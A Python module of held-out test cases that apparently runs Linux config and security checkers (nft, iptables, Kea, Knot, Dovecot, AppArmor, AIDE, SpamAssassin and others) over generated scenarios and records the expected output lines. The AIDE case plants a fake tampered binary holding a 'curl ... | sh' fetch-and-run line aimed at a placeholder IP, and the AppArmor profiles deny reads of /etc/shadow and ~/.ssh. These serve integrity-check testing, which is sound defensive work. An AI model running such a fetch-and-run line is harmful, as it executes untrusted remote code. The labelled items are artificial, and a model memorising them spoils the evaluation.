"""Held-out outputs (group ``unseen-23``): a twenty-third batch, system, mail, network and security checkers.

Every tool reads a configuration or data written in the scenario's folder, never the machine's own:
``nft -c --debug=netlink`` over 60 rulesets where one rule misspells ``accept``, ``iptables-restore --test``
and ``iptables-restore-translate`` over 50 host rulesets where one rule says ``--dprt``, ``kea-dhcp4 -t``
over six sites where one subnet reuses an ID, ``knotc zone-check`` over 60 zones where one name has a
CNAME beside an A record, ``doveconf -n`` over 30 tenant configs where one misspells ``mail_location``,
``apparmor_parser -Q -K -d`` over 60 profiles where one rule lacks its comma, ``aide --check -L info``
over a 1,200-file tree where one binary was replaced, and ``spamassassin --lint -D`` over 40 local rule
files where one regular expression is unclosed. Clean runs whose text talks about errors:
``rsyslogd -N1`` over 60 fragments that route ``errors.log`` and ``failed-jobs`` files, ``nsd-checkzone -p``
over zones named ``errors`` and ``failed-jobs``, ``testparm -s -v`` over shares named ``errors`` and
``failed-uploads``, and ``aureport``/``ausearch`` over a replayed audit log full of ``res=failed``.
Labels were written with each scenario, before the engine saw the output. Needs Debian ``nftables``,
``iptables``, ``kea-dhcp4-server``, ``knot``, ``dovecot-core``, ``apparmor``, ``aide``, ``spamassassin``,
``rsyslog``, ``nsd``, ``samba-common-bin`` and ``auditd``.
"""

from __future__ import annotations

import re
from pathlib import Path

from _harness import WORDS, case, scrub, sh, substitute, write

GROUP = "unseen-23"


# ---------------------------------------------------------------- nftables: nft -c


def _nft_rules(s: int, area: str, typo: bool) -> str:
    verdict = "acept" if typo else "accept"
    # the typo is on line 16 of the file
    return f"""table inet {area}_{s:02d} {{
  set trusted {{
    type ipv4_addr
    flags interval
    elements = {{ 10.{s}.0.0/16, 192.168.{s}.0/24 }}
  }}
  set blocked {{
    type ipv4_addr
    elements = {{ 203.0.113.{s + 1}, 198.51.100.{s + 1} }}
  }}
  chain input {{
    type filter hook input priority 0; policy drop;
    ct state established,related accept
    ct state invalid counter drop
    iifname "lo" accept
    ip saddr @trusted tcp dport {{ 8443, 9{s:03d} }} counter {verdict}
    ip saddr @blocked counter drop
    tcp dport 22 ct state new limit rate 10/minute accept
    icmp type echo-request limit rate 5/second accept
    tcp dport {{ 80, 443 }} accept
    log prefix "{area}-errors-dropped: " level warn counter drop
  }}
  chain forward {{
    type filter hook forward priority 0; policy drop;
  }}
  chain output {{
    type filter hook output priority 0; policy accept;
    tcp dport 25 ip daddr != 10.0.0.25 counter reject
  }}
}}
"""


@case(
    "nft_check_netlink_rulesets_syntax_error",
    "nft -c --debug=netlink (loop over rulesets)",
    clean=False,
    group=GROUP,
    decisive=[
        "rules/021-orders.nft:16:",
        "ip saddr @trusted tcp dport { 8443, 9021 } counter acept",
    ],
)
def _nft(root: Path) -> bytes:
    for s in range(60):
        area = WORDS[s % 20]
        write(root, {f"rules/{s:03d}-{area}.nft": _nft_rules(s, area, s == 21)})
    return sh(
        'st=0; for f in rules/*.nft; do echo "== nft -c -f $f"; nft -c --debug=netlink -f "$f" || st=1; done; exit $st',
        root,
    )


# ---------------------------------------------------------------- iptables-restore --test


def _ipt_rules(h: int, area: str, typo: bool) -> str:
    rules = [
        "*filter",
        ":INPUT DROP [0:0]",
        ":FORWARD DROP [0:0]",
        ":OUTPUT ACCEPT [0:0]",
        ":ERRORS-LOG - [0:0]",
        "-A INPUT -i lo -j ACCEPT",
        "-A INPUT -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT",
        "-A INPUT -m conntrack --ctstate INVALID -j ERRORS-LOG",
    ]
    for k in range(18):
        port = 8000 + h * 20 + k
        opt = "--dprt" if typo and k == 9 else "--dport"
        rules.append(
            f"-A INPUT -s 10.{h}.{k}.0/24 -p tcp -m tcp {opt} {port} -m comment --comment {area}-{k} -j ACCEPT"
        )
    rules += [
        "-A INPUT -p tcp -m tcp --dport 22 -m limit --limit 10/min -j ACCEPT",
        "-A INPUT -p icmp -m icmp --icmp-type 8 -j ACCEPT",
        "-A INPUT -j ERRORS-LOG",
        '-A ERRORS-LOG -m limit --limit 5/min -j LOG --log-prefix "failed-input: "',
        "-A ERRORS-LOG -j DROP",
        "COMMIT",
        "*nat",
        ":PREROUTING ACCEPT [0:0]",
        ":POSTROUTING ACCEPT [0:0]",
        f"-A PREROUTING -p tcp -m tcp --dport 80 -j REDIRECT --to-ports {8000 + h * 20}",
        f"-A POSTROUTING -s 10.{h}.0.0/16 -o eth0 -j MASQUERADE",
        "COMMIT",
    ]
    return "\n".join(rules) + "\n"


@case(
    "iptables_restore_test_unknown_option",
    "iptables-restore --test && iptables-restore-translate (loop over hosts)",
    clean=False,
    group=GROUP,
    # the typo is rule 10 of the INPUT chain: line 18 of the file
    decisive=[
        "== iptables-restore --test hosts/023-tax.rules",
        'unknown option "--dprt"',
        "Error occurred at line: 18",
    ],
)
def _iptables(root: Path) -> bytes:
    for h in range(50):
        area = WORDS[h % 20]
        write(root, {f"hosts/{h:03d}-{area}.rules": _ipt_rules(h, area, h == 23)})
    out = sh(
        'st=0; for f in hosts/*.rules; do echo "== iptables-restore --test $f"; '
        'iptables-restore --test "$f" && iptables-restore-translate -f "$f" || st=1; done; exit $st',
        root,
    )
    return substitute(out, (r" on [A-Z][a-z]{2} [A-Z][a-z]{2} [ 0-9]{2} [0-9:]{8} [0-9]{4}$", " on DATE"))


# ---------------------------------------------------------------- Kea: kea-dhcp4 -t


def _kea_config(root: Path, site: int, dup: bool) -> str:
    subnets = []
    for k in range(60):
        sid = site * 1000 + k
        if dup and k == 31:
            sid = site * 1000 + 12  # copied from an older block: the ID is already taken
        subnets.append(
            f'      {{"id": {sid}, "subnet": "10.{site}.{k}.0/24", '
            f'"pools": [{{"pool": "10.{site}.{k}.20 - 10.{site}.{k}.220"}}], '
            f'"option-data": [{{"name": "routers", "data": "10.{site}.{k}.1"}}], '
            f'"user-context": {{"service": "{WORDS[k % 20]}"}}}}'
        )
    body = ",\n".join(subnets)
    return f"""{{
  "Dhcp4": {{
    "interfaces-config": {{"interfaces": []}},
    "lease-database": {{"type": "memfile", "persist": false}},
    "valid-lifetime": 7200,
    "option-data": [{{"name": "domain-name-servers", "data": "10.{site}.0.53"}}],
    "subnet4": [
{body}
    ],
    "loggers": [{{"name": "kea-dhcp4", "output_options": [{{"output": "stdout"}}], "severity": "INFO"}}]
  }}
}}
"""


@case(
    "kea_dhcp4_t_sites_duplicate_subnet_id",
    "kea-dhcp4 -t (loop over site configs)",
    clean=False,
    group=GROUP,
    decisive=[
        "failed to create or run parser for configuration element subnet4: "
        "ID of the new IPv4 subnet '3012' is already in use",
        "Error encountered: ID of the new IPv4 subnet '3012' is already in use (sites/dc3.json:39:",
    ],
)
def _kea(root: Path) -> bytes:
    for site in range(1, 7):
        write(root, {f"sites/dc{site}.json": _kea_config(root, site, site == 3)})
    out = sh(
        'st=0; for f in sites/*.json; do echo "== kea-dhcp4 -t $f"; kea-dhcp4 -t "$f" || st=1; done; exit $st',
        root,
        env={"KEA_LOCKFILE_DIR": str(root), "KEA_PIDFILE_DIR": str(root)},
    )
    return scrub(
        substitute(out, (r"^[0-9-]+ [0-9:.]+ ", "T "), (r"/[0-9]+\.[0-9]+\]", "/P.T]")),
        root,
    )


# ---------------------------------------------------------------- Knot DNS: knotc zone-check


def _zone(name: str, z: int, conflict: bool) -> str:
    rows = [
        f"$ORIGIN {name}.",
        "$TTL 300",
        f"@ IN SOA ns1 hostmaster {2024060100 + z} 3600 600 86400 300",
        "@ IN NS ns1",
        "@ IN NS ns2",
        f"ns1 IN A 10.{z}.0.1",
        f"ns2 IN A 10.{z}.0.2",
        '@ IN TXT "v=spf1 mx -all"',
        "@ IN MX 10 mail",
        f"mail IN A 10.{z}.0.25",
    ]
    for k, w in enumerate(WORDS * 3):
        rows.append(f"{w}-{k} IN A 10.{z}.{k // 250 + 1}.{k % 250 + 1}")
        if k % 4 == 0:
            rows.append(f"{w}-api-{k} IN CNAME {w}-{k}")
    if conflict:
        rows.append(f"refunds-api-4 IN A 10.{z}.9.16")
    return "\n".join(rows) + "\n"


@case(
    "knotc_zone_check_cname_beside_other_data",
    "knotc conf-check && knotc -v zone-check (loop over zones)",
    clean=False,
    group=GROUP,
    decisive=[
        "check, node refunds-api-4.shop-38.internal., another record exists beside CNAME",
        "error: [shop-38.internal.] failed to check zone file (failed)",
    ],
)
def _knot(root: Path) -> bytes:
    zones = []
    for z in range(60):
        name = f"shop-{z:02d}.internal"
        write(root, {f"zones/{name}.zone": _zone(name, z, z == 38)})
        zones.append(f"  - domain: {name}\n    file: {name}.zone\n    semantic-checks: on\n")
    write(
        root,
        {
            "knot.conf": f"server:\n    rundir: {root}/run\n    listen: 127.0.0.1@47353\n"
            f"database:\n    storage: {root}/db\n"
            f"template:\n  - id: default\n    storage: {root}/zones\n"
            "log:\n  - target: stdout\n    any: info\n"
            "zone:\n" + "".join(zones)
        },
    )
    (root / "db").mkdir()
    out = sh(
        'knotc -c knot.conf conf-check && st=0 && for f in zones/*.zone; do z=$(basename "$f" .zone); '
        'echo "== knotc -v zone-check $z"; knotc -v -c knot.conf zone-check "$z" || st=1; done; exit $st',
        root,
    )
    return scrub(out, root)


# ---------------------------------------------------------------- Dovecot: doveconf -n


def _dovecot(root: Path, t: int, area: str, typo: bool) -> str:
    location = "mail_locaton" if typo else "mail_location"
    # the setting is on line 7
    return f"""protocols = imap lmtp
listen = 127.0.0.1
base_dir = {root}/run/{area}-{t}
log_path = {root}/logs/{area}-{t}.log
info_log_path = {root}/logs/{area}-{t}-info.log
mail_uid = nobody
{location} = maildir:{root}/mail/{area}/%n/Maildir
ssl = no
auth_mechanisms = plain login
auth_verbose = yes
auth_failure_delay = 2 secs
mail_plugins = quota
passdb {{
  driver = passwd-file
  args = scheme=SHA512-CRYPT {root}/users/{area}.passwd
}}
userdb {{
  driver = static
  args = uid=nobody gid=nogroup home={root}/mail/{area}/%n
}}
namespace inbox {{
  inbox = yes
  separator = /
  mailbox Drafts {{
    auto = subscribe
    special_use = \\Drafts
  }}
  mailbox Sent {{
    auto = subscribe
    special_use = \\Sent
  }}
  mailbox Junk {{
    auto = create
    special_use = \\Junk
    autoexpunge = 30d
  }}
  mailbox "Delivery Errors" {{
    auto = create
  }}
  mailbox "Failed Payments" {{
    auto = create
  }}
}}
service imap-login {{
  inet_listener imap {{
    port = {47143 + t}
  }}
}}
plugin {{
  quota = maildir:User quota
  quota_rule = *:storage={t + 1}G
  quota_exceeded_message = Quota exceeded for {area}, delivery failed
}}
"""


@case(
    "doveconf_n_tenants_unknown_setting",
    "doveconf -n (loop over tenant configs)",
    clean=False,
    group=GROUP,
    decisive=[
        "doveconf: Fatal: Error in configuration file tenants/24-refunds.conf line 7: Unknown setting: mail_locaton"
    ],
)
def _doveconf(root: Path) -> bytes:
    for t in range(30):
        area = WORDS[t % 20]
        write(root, {f"tenants/{t:02d}-{area}.conf": _dovecot(root, t, area, t == 24)})
    out = sh(
        'st=0; for f in tenants/*.conf; do echo "== doveconf -n -c $f"; doveconf -n -c "$f" || st=1; done; exit $st',
        root,
    )
    return scrub(out, root)


# ---------------------------------------------------------------- AppArmor: apparmor_parser -Q -K


def _profile(p: int, area: str, broken: bool) -> str:
    upload = f"  /srv/{area}/uploads/** rw" + ("" if broken else ",")
    # the rule without its comma is on line 9
    return f"""abi <abi/3.0>,
include <tunables/global>

profile shop-{area}-{p:02d} /usr/bin/shop-{area}-{p:02d} flags=(attach_disconnected) {{
  include <abstractions/base>
  include <abstractions/nameservice>

  /usr/bin/shop-{area}-{p:02d} mr,
{upload}
  /srv/{area}/static/** r,
  /var/log/shop/{area}-errors.log w,
  /var/log/shop/{area}-failed-jobs.log w,
  owner /tmp/{area}-* rw,
  /proc/sys/kernel/random/uuid r,
  network inet stream,
  network inet6 stream,
  capability net_bind_service,
  deny /etc/shadow r,
  deny @{{HOME}}/.ssh/** rw,
  signal (receive) peer=unconfined,
}}
"""


@case(
    "apparmor_parser_profiles_missing_comma",
    "apparmor_parser -Q -K -d (loop over profiles)",
    clean=False,
    group=GROUP,
    decisive=[
        "AppArmor parser error for profiles/036-coupons in profile profiles/036-coupons at line 10: "
        "missing an end of line character? (entry: /srv/coupons/uploads/**)"
    ],
)
def _apparmor(root: Path) -> bytes:
    for p in range(60):
        area = WORDS[p % 20]
        write(root, {f"profiles/{p:03d}-{area}": _profile(p, area, p == 36)})
    return sh(
        'st=0; for f in profiles/*; do echo "== apparmor_parser -Q -K -d $f"; '
        'apparmor_parser -Q -K -d "$f" || st=1; done; exit $st',
        root,
    )


# ---------------------------------------------------------------- AIDE: aide --check


@case(
    "aide_check_replaced_binary",
    "aide --check -L info",
    clean=False,
    group=GROUP,
    decisive=[
        "AIDE found differences between database and filesystem!!",
        "File: /srv/bin/refunds-worker",
    ],
)
def _aide(root: Path) -> bytes:
    for k in range(1200):
        area = WORDS[k % 20]
        sub = ["static", "templates", "config", "bin"][k // 20 % 4]
        name = f"{area}-worker" if sub == "bin" and k < 80 else f"{area}-{k:04d}.dat"
        path = root / "srv" / sub / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"{area} {sub} file {k}\n" * (k % 30 + 1))
    write(
        root,
        {
            "aide.conf": f"""
            database_in=file:{root}/aide.db
            database_out=file:{root}/aide.db.new
            report_url=stdout
            root_prefix={root}
            Shop = p+u+g+s+n+sha256
            /srv Shop
            !/srv/static/errors-.*\\.tmp$
            """
        },
    )
    sh("aide -c aide.conf --init -W 1 > /dev/null && mv aide.db.new aide.db", root)
    # the deploy replaced one binary by hand and left a stray file
    (root / "srv" / "bin" / "refunds-worker").write_text("#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")
    (root / "srv" / "static" / "errors-0001.tmp").write_text("ignored\n")
    out = sh("aide -c aide.conf --check -L info -W 1", root)
    out = re.sub(
        rb"(The attributes of the \(uncompressed\) database\(s\):\n-+\n).*?(\n\nEnd timestamp)",
        rb"\1(database digests)\2",
        out,
        flags=re.S,
    )
    return scrub(
        substitute(
            out, (r"timestamp: [0-9-]+ [0-9:]+ \+0000", "timestamp: T"), (r"run time: [0-9]+m [0-9]+s", "run time: N")
        ),
        root,
    )


# ---------------------------------------------------------------- SpamAssassin: --lint


@case(
    "spamassassin_lint_invalid_regexp",
    "spamassassin --lint -D config (local rules)",
    clean=False,
    group=GROUP,
    # the label ``lint: 1 issues detected`` was dropped before the first measure: with -D this
    # SpamAssassin prints no such count, only the warning and the exit status
    decisive=["warn: config: invalid regexp for LOCAL_REFUNDS_BODY_2"],
)
def _spamassassin(root: Path) -> bytes:
    sh(f"mkdir -p {root}/sa && cp /etc/spamassassin/*.pre {root}/sa/", root)
    for r in range(40):
        area = WORDS[r % 20]
        up = area.upper()
        rules = []
        for k in range(6):
            rx = f"/{area} (order|invoice) no\\.{k}[0-9]+ (failed|error"  # unclosed: the refunds file, rule 2
            rx += ")/i" if (r, k) != (24, 2) else "/i"
            rules.append(
                f"body LOCAL_{up}_BODY_{k} {rx}\ndescribe LOCAL_{up}_BODY_{k} {area} notification {k}\n"
                f"score LOCAL_{up}_BODY_{k} {0.1 * (k + 1):.1f}\n"
                f"header LOCAL_{up}_SUBJ_{k} Subject =~ /\\[{area}-{k}\\] (errors|exceptions) report/\n"
                f"score LOCAL_{up}_SUBJ_{k} -{0.5 + k / 10:.1f}\n"
            )
        write(root, {f"sa/{r:02d}_{area}.cf": "".join(rules)})
    # a fixed hash seed: the debug lines of a hash walk come in the same order on every run
    env = {"PERL_HASH_SEED": "0", "PERL_PERTURB_KEYS": "0"}
    out = sh(f"spamassassin --siteconfigpath={root}/sa --lint -D config", root, env=env)
    return scrub(substitute(out, (r"^[A-Z][a-z]{2} [ 0-9]{2} [0-9:.]+ \[[0-9]+\] ", "T [P] ")), root)


# ---------------------------------------------------------------- rsyslog: rsyslogd -N1 (clean)


def _rsyslog(root: Path, n: int, area: str) -> str:
    return f"""module(load="imuxsock" SysSock.Use="off")
template(name="{area}ErrorFormat" type="string"
         string="%TIMESTAMP:::date-rfc3339% %HOSTNAME% %syslogtag% [%syslogseverity-text%] %msg%\\n")
ruleset(name="{area}") {{
  if $syslogseverity <= 3 then {{
    action(type="omfile" file="{root}/logs/{area}-{n}/errors.log" template="{area}ErrorFormat")
  }}
  if $msg contains "failed" then {{
    action(type="omfile" file="{root}/logs/{area}-{n}/failed-jobs.log")
  }}
  if $programname == "{area}-worker" and $msg contains "exception" then {{
    action(type="omfile" file="{root}/logs/{area}-{n}/exceptions.log")
    stop
  }}
  action(type="omfile" file="{root}/logs/{area}-{n}/all.log")
}}
input(type="imuxsock" Socket="{root}/run/{area}-{n}-app.sock" ruleset="{area}")
"""


@case(
    "rsyslogd_N1_fragments_errors_log_clean",
    "rsyslogd -N1 (loop over config fragments)",
    clean=True,
    group=GROUP,
    decisive=["rsyslogd: End of config validation run. Bye."],
)
def _rsyslogd(root: Path) -> bytes:
    for n in range(60):
        area = WORDS[n % 20]
        write(root, {f"rsyslog.d/{n:02d}-{area}.conf": _rsyslog(root, n, area)})
    out = sh(
        'st=0; for f in rsyslog.d/*.conf; do echo "== rsyslogd -N1 -f $f"; '
        'rsyslogd -N1 -f "$f" || st=1; grep -c omfile "$f" | sed "s/^/  omfile actions: /"; done; exit $st',
        root,
    )
    return scrub(out, root)


# ---------------------------------------------------------------- NSD: nsd-checkconf, nsd-checkzone (clean)


@case(
    "nsd_checkzone_print_errors_zones_clean",
    "nsd-checkconf && nsd-checkzone -p (loop over zones)",
    clean=True,
    group=GROUP,
    # after the first measure: the label was the verdict of one zone (``errors.shop.internal``), but every
    # zone's check says the same; the decisive line is the verdict, whichever zone it names
    decisive=[".shop.internal is ok"],
)
def _nsd(root: Path) -> bytes:
    names = ["errors", "failed-jobs", "exceptions", "fatal-alerts", "error-pages"]
    names += [w for w in WORDS if w not in names][:15]
    zones = []
    for z, name in enumerate(names):
        zone = f"{name}.shop.internal"
        write(root, {f"zones/{zone}.zone": _zone(zone, z, False)})
        zones.append(f"zone:\n  name: {zone}\n  zonefile: {root}/zones/{zone}.zone\n")
    write(
        root,
        {
            "nsd.conf": f'server:\n  ip-address: 127.0.0.1@47354\n  zonesdir: "{root}/zones"\n'
            f'  pidfile: "{root}/nsd.pid"\n  logfile: "{root}/nsd.log"\n  verbosity: 2\n'
            f'  username: ""\n  chroot: ""\n  database: ""\n' + "".join(zones)
        },
    )
    out = sh(
        'nsd-checkconf nsd.conf && echo "nsd-checkconf: nsd.conf ok" && st=0 && for f in zones/*.zone; do '
        'z=$(basename "$f" .zone); echo "== nsd-checkzone -p $z"; nsd-checkzone -p "$z" "$f" || st=1; done; exit $st',
        root,
    )
    return scrub(out, root)


# ---------------------------------------------------------------- Samba: testparm -s -v (clean)


@case(
    "testparm_s_v_shares_errors_clean",
    "testparm -s -v",
    clean=True,
    group=GROUP,
    decisive=["Loaded services file OK."],
)
def _testparm(root: Path) -> bytes:
    shares = [
        f"[global]\n  workgroup = SHOP\n  server string = shop file services\n  log file = {root}/logs/log.%m\n"
        "  max log size = 1000\n  logging = file\n  map to guest = bad user\n  security = user\n"
        "  load printers = no\n  printing = bsd\n  printcap name = /dev/null\n  disable spoolss = yes\n"
    ]
    for name in ["errors", "failed-uploads", "exceptions", "error-reports", *WORDS]:
        for k in range(3):
            shares.append(
                f"[{name}-{k}]\n  comment = {name} share {k} (errors are kept for 30 days)\n"
                f"  path = {root}/srv/{name}/{k}\n  read only = {'no' if k else 'yes'}\n"
                f"  valid users = @{name} @ops\n  create mask = 0640\n  directory mask = 0750\n"
                f"  veto files = /*.tmp/*.failed/\n  delete veto files = yes\n"
            )
    write(root, {"smb.conf": "\n".join(shares)})
    return scrub(sh("testparm -s -v smb.conf", root), root)


# ---------------------------------------------------------------- auditd: aureport, ausearch (clean)


def _audit_log() -> tuple[str, int]:
    """A replayed audit log: SSH logins, sudo commands, file watches; one in 13 authentications fails."""
    rows = []
    failed = 0
    serial = 1000
    for i in range(6000):
        serial += 1
        t = 1733220000 + i * 7
        user = WORDS[i % 20]
        host = f"10.{i % 8}.{i % 50}.{i % 200 + 1}"
        pid = 3000 + i
        res = "failed" if i % 13 == 0 else "success"
        failed += res == "failed"
        rows.append(
            f"type=USER_AUTH msg=audit({t}.{i % 1000:03d}:{serial}): pid={pid} uid=0 auid=4294967295 "
            f'ses=4294967295 subj=unconfined msg=\'op=PAM:authentication grantors=pam_unix acct="{user}" '
            f'exe="/usr/sbin/sshd" hostname={host} addr={host} terminal=ssh res={res}\'UID="root" AUID="unset"'
        )
        if res == "success" and i % 3 == 0:
            serial += 1
            rows.append(
                f"type=USER_CMD msg=audit({t + 2}.{i % 1000:03d}:{serial}): pid={pid + 1} uid=1000 auid=1000 "
                f'ses={i % 90 + 1} subj=unconfined msg=\'cwd="/srv/{user}" '
                f'cmd=2F7573722F62696E2F73797374656D63746C2072657374617274 exe="/usr/bin/sudo" '
                f'terminal=pts/{i % 9} res=success\'UID="ops" AUID="ops"'
            )
        if i % 5 == 0:
            serial += 1
            rows.append(
                f"type=SYSCALL msg=audit({t + 3}.{i % 1000:03d}:{serial}): arch=c000003e syscall=257 success=yes "
                f"exit=3 a0=ffffff9c a1=7ffd2 a2=241 a3=1b6 items=2 ppid=1 pid={pid + 2} auid=4294967295 uid=33 "
                f"gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 "
                f'comm="{user}-worker" '
                f'exe="/usr/bin/python3.11" subj=unconfined key="shop-errors-log"'
            )
    return "\n".join(rows) + "\n", failed


@case(
    "aureport_ausearch_failed_auth_replay_clean",
    "aureport and ausearch -if (replayed audit log)",
    clean=True,
    group=GROUP,
    decisive=["Number of failed authentications: 462"],
)
def _audit(root: Path) -> bytes:
    text, _failed = _audit_log()
    (root / "audit.log").write_text(text)
    return sh(
        "aureport -if audit.log --summary -i && aureport -if audit.log --failed --summary -i && "
        "aureport -if audit.log -au --failed -i && aureport -if audit.log -k --summary -i && "
        "ausearch -if audit.log -m USER_AUTH --success no -i | tail -n 300",
        root,
        env={"TZ": "UTC"},
    )
